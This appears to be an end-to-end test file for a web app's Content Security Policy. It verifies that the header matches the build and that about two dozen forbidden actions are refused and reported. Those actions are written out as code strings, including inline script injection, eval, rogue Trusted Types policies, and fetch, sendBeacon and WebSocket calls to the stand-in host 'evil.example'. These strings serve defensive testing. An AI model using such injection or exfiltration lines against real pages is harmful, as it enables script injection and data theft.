import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';
import { describe, it } from 'node:test';
import { contentSecurityPolicy, inlineSources } from '../../scripts/build/content-security-policy.js';
import { screenStates } from './support/screen-states.ts';
import { type Fixtures, e2eSuite } from './support/e2e-suite.ts';
import { until } from './support/until.ts';

// Every test of every spec runs under this policy and fails when the page violates it (support/e2e-suite.ts). These tests check that it does.
const { withPage } = e2eSuite();
const bare = e2eSuite({ ssr: false });

const policyOf = async ({ page, setup }: Fixtures, path = '/unknown-session'): Promise<string> => {
  await page.goto(`${setup.origin}${path}`);
  return page.evaluate(async () => (await fetch(location.href)).headers.get('content-security-policy') ?? '');
};

describe('The policy that every end-to-end test runs under', () => {
  for (const [how, part] of [
    ['with the data in the page', { withPage }],
    ['without', bare],
  ] as const) {
    it(
      `is that of the build ${how}, framed by nobody but the demo itself`,
      part.withPage(async (fixtures) => {
        const html = await readFile(resolve(process.env['PAGE_DIRECTORY'] ?? 'dist/hosted', 'index.html'), 'utf8');
        const scripts = inlineSources(html, 'script');
        assert.equal(scripts.length, 2, 'the import map and the script before the first paint');
        const expected = contentSecurityPolicy({ scripts, https: false, extra: { 'frame-ancestors': ["'self'"] } });
        assert.equal(await policyOf(fixtures), expected);
      }),
    );
  }

  /** Each tries one thing that the policy forbids. */
  const attempts: Readonly<Record<string, string>> = {
    'an inline script': "const s = document.createElement('script'); s.text = 'window.ran = 1'; document.head.append(s);",
    'an inline handler': "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click();",
    'a script address that is text': "document.createElement('script').src = '/assets/sign-in-experience.js';",
    'markup that is text': "document.createElement('div').innerHTML = '<b>x</b>';",
    'markup for a frame': "document.createElement('iframe').srcdoc = '<b>x</b>';",
    'evaluated text': "window.setTimeout('window.ran = 1');",
    'a function from text': "new Function('window.ran = 1')();",
    'another Trusted Types policy': "trustedTypes.createPolicy('other', {});",
    'a second policy of our name': "trustedTypes.createPolicy('lit-html', { createHTML: (text) => text });",
    'a default policy': "trustedTypes.createPolicy('default', { createHTML: (text) => text });",
    'an inline style': "const s = document.createElement('style'); s.append('b{}'); document.head.append(s);",
    'a style attribute': "document.body.setAttribute('style', 'color:red');",
    'another base': "const b = document.createElement('base'); b.href = 'https://evil.example'; document.head.append(b);",
    'a frame': "const f = document.createElement('iframe'); f.src = 'https://evil.example'; document.body.append(f);",
    'an object': "const o = document.createElement('object'); o.data = 'https://evil.example'; document.body.append(o);",
    'a request to somebody else': "fetch('https://evil.example').catch(() => 0);",
    'a beacon': "navigator.sendBeacon('https://evil.example', 'x');",
    'a socket': "new WebSocket('wss://evil.example');",
    'a form that leaves': "const f = document.createElement('form'); f.action = '/x'; document.body.append(f); f.submit();",
    'a picture without TLS': "new Image().src = 'http://evil.example/x.png';",
    'a font': "new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => 0);",
    'a sheet of somebody else':
      "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; document.head.append(l);",
    'a manifest': "const l = document.createElement('link'); l.rel = 'manifest'; l.href = '/x.json'; document.head.append(l);",
    'a film': "const v = document.createElement('video'); v.src = 'https://evil.example/x.mp4'; document.body.append(v);",
  };

  it(
    `refuses and reports each of ${String(Object.keys(attempts).length)} things`,
    withPage(
      async ({ I, page, setup }) => {
        let attempt = '';
        await page.setRequestInterception(true);
        page.on('request', (request) => {
          if (!request.url().includes('/attempt-')) return void request.continue();
          void request.respond({ status: 200, contentType: 'text/javascript', body: attempt });
        });
        await I.visit(`${setup.origin}/unknown-session`);
        await I.seeHeading('Your session has ended');
        for (const [what, code] of Object.entries(attempts)) {
          const before = I.traffic.violations().length;
          // A file of the page's own origin may run; what it does is what is refused.
          attempt = code;
          await page.evaluate((name) => import(`/attempt-${name}.js`).catch(() => undefined), encodeURIComponent(what));
          await until(`a report of ${what}`, async () => I.traffic.violations().length > before);
        }
        assert.equal(await page.evaluate(() => 'ran' in window), false);
      },
      { expectedViolations: /./ },
    ),
  );

  it('is met by every state of every screen, in the tests of accessibility.spec.ts', () => {
    const states = Object.keys(screenStates);
    assert.ok(states.length > 90, String(states.length));
    console.log(`${String(states.length)} states under the strict policy:\n${states.map((state) => `- ${state}`).join('\n')}`);
  });
});
